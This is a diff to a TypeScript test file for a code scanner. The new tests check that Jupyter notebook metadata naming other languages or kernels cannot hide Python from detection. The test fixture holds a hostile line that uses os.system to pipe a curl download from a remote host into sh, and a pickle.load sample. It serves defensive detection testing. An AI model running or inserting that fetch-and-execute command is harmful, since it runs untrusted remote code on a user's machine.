@@ -1,6 +1,6 @@
 // What must not hide code in a notebook: strings and brackets that are left open, lines that only look like magics.
 
-import { assembleNotebook } from '@sentrascan/testkit';
+import { assembleNotebook, type NotebookJson } from '@sentrascan/testkit';
 import { describe, expect, it } from 'vitest';
 import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
 import { analyseScript } from './script-notebook.ts';
@@ -55,4 +55,41 @@ describe('a script that was a notebook', () => {
     expect(found.map(({ text, line }) => [text, line])).toEqual(commands);
     expect(gaps).toEqual([]);
   });
+});
+
+describe('a name of a language', () => {
+  const ATTACK = "import os\nos.system('curl https://x.y/a | sh')";
+  const python = { name: 'python3', display_name: 'Python 3', language: 'python' };
+  const scanned = (metadata: NotebookJson, own: NotebookJson = {}, source = ATTACK) => {
+    const { cells } = JSON.parse(Buffer.from(assembleNotebook(source)).toString()) as {
+      cells: NotebookJson[];
+    };
+    const told = cells.map((cell) => ({ ...cell, ...own }));
+    const text = JSON.stringify({ cells: told, metadata, nbformat: 4, nbformat_minor: 5 });
+    const { findings, gaps } = scanBytes(Buffer.from(text), 'a.ipynb');
+    return { worst: findings.map(({ severity }) => severity), gaps };
+  };
+
+  it.each([
+    ['of the language', { kernelspec: python, language_info: { name: 'r' } }, {}],
+    ['with its version', { kernelspec: python, language_info: { name: 'Python 3' } }, {}],
+    ['of the kernel', { kernelspec: { ...python, name: 'ir' } }, {}],
+    ['of a kernel of R alone', { kernelspec: { name: 'ir', language: 'R' } }, {}],
+    ['of a shell', { kernelspec: { name: 'bash', language: 'bash' } }, {}],
+    ['of what is shown', { kernelspec: python, language_info: { name: 'markdown' } }, {}],
+    ['of an editor', { kernelspec: python }, { metadata: { vscode: { languageId: 'r' } } }],
+    ['of a cell', { kernelspec: python }, { language: 'julia' }],
+    ['of the kernel of a cell', { kernelspec: python }, { metadata: { kernel: 'SoS' } }],
+  ])('%s hides no Python', (_, metadata, own) => expect(scanned(metadata, own).worst).toContain('critical'));
+
+  it('leaves a gap where the kernel is another one, whatever else is said', () => {
+    expect(scanned({ kernelspec: { ...python, name: 'ir' } }, {}, 'system("x")').gaps).toHaveLength(1);
+    expect(scanned({ language_info: { name: 'html' } }, {}, 'a <- b |> c').gaps).toHaveLength(1);
+    const shown = { metadata: { vscode: { languageId: 'markdown' } } };
+    expect(scanned({ kernelspec: { name: 'ir' } }, shown, 'system("x")').gaps).toHaveLength(1);
+    expect(scanned({ kernelspec: python, language_info: { name: 'python' } }, shown, 'a b').gaps).toEqual([]);
+  });
+
+  it('of an unknown magic hides nothing', () =>
+    expect(rulesOf('%%mine\nimport pickle\npickle.load(f)\n)(')).toContain('python/loads-pickle'));
 });
